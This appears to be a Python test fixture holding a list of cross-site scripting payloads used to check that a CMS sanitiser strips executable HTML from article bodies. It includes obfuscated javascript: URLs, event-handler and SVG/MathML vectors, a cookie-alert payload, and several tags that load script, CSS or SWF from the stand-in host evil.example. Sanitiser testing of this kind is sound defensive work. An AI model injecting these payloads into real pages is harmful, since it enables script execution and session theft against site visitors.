"""Hostile HTML an article body might carry (pasted, imported or typed by a compromised account).

Each vector is one string; the tests save every one through the admin form and the sanitiser
and then check the reader page and the feed contain nothing a browser would execute.
Sources: OWASP XSS Filter Evasion Cheat Sheet, PortSwigger XSS cheat sheet, html5sec.org.
"""

VECTORS = [
    # Script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/src=data:,alert(1)></script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script type="text/javascript">alert(document.cookie)</script>',
    '<script type="application/ld+json">{"@context":"x"}</script><script>alert(1)</script>',
    "</p><script>alert(1)</script><p>",
    # Event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">rê chuột</div>',
    "<p onclick=alert(1)>bấm</p>",
    '<a href="/" onfocus=alert(1) autofocus>x</a>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>chạy</marquee>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img/src/onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    # javascript: and data: URLs, plain and obfuscated
    '<a href="javascript:alert(1)">bấm</a>',
    '<a href="JaVaScRiPt:alert(1)">bấm</a>',
    '<a href=" javascript:alert(1)">khoảng trắng đầu</a>',
    '<a href="java\tscript:alert(1)">tab</a>',
    '<a href="java\nscript:alert(1)">xuống dòng</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">thực thể</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">hex</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">0</a>',
    '<a href="javascript&colon;alert(1)">colon</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(1)">phần trăm</a>',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">CLICK</math>',
    # Style and legacy expression()
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="background-image:url(javascript:alert(1))">nền</div>',
    '<div style="width:expression(alert(1))">ie</div>',
    '<p style="behavior:url(x.htc)">htc</p>',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    # Frames, objects, embeds, forms, meta, base
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="//evil.example/x.swf">',
    '<form action="javascript:alert(1)"><button>gửi</button></form>',
    '<form><button formaction="javascript:alert(1)">gửi</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    '<base href="//evil.example/">',
    "<isindex type=image src=1 onerror=alert(1)>",
    # Malformed and mixed-up markup
    '<img """><script>alert(1)</script>">',
    '<a href="/"<script>alert(1)</script>>x</a>',
    '<div><p title="</p><script>alert(1)</script>">x</p></div>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    # Encoded variants of the angle brackets (must stay text)
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
]
